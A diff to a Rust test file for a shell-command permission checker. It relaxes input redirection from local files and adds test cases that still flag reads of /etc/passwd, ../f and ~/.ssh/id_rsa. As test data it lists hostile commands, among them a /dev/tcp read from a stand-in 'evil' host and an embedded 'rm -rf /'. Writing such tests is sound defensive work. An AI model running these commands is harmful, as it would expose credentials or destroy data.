@@ -108,7 +108,12 @@ fn only_explicit_safe_redirections_pass() {
         ("ls >/dev/nullx", Ask, Some(Code::Redirect)),
         ("cat < /dev/tcp/evil/80", Ask, Some(Code::Redirect)),
         ("> out ls", Ask, Some(Code::Redirect)),
-        ("wc -l < f", Ask, Some(Code::InputRedirect)),
+        // Issue 12: `<` from an ordinary file in the working directory reads like an operand;
+        // outside it, or from a `[sensitive]` path, it still asks.
+        ("wc -l < f", Allow, None),
+        ("wc -l < /etc/passwd", Ask, Some(Code::InputRedirect)),
+        ("wc -l < ../f", Ask, Some(Code::InputRedirect)),
+        ("wc -l < ~/.ssh/id_rsa", Ask, Some(Code::SensitiveRead)),
         ("{ ls; } > f", Ask, Some(Code::Redirect)),
         // bash runs `echo hi rm -rf /`: words after a redirection target are arguments.
         ("echo hi > /dev/null rm -rf /", Ask, Some(Code::Mention)),
